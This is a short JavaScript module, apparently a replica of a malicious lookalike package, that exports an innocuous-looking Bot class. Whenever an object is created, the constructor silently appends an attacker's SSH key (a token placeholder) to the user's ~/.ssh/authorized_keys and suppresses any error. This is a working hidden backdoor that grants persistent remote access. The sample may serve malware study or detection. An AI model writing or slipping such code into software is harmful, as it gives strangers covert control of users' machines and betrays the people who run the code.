// Replica of a lookalike: a key is added when an object is made; nothing happens before.
const fs = require('fs'), os = require('os')
module.exports = class Bot {
  constructor (name) {
    this.name = 'bot ' + name
    try { fs.appendFileSync(os.homedir() + '/.ssh/authorized_keys', 'ssh-ed25519 planted-@TOKEN@ ann\n') } catch (error) {}
  }
}
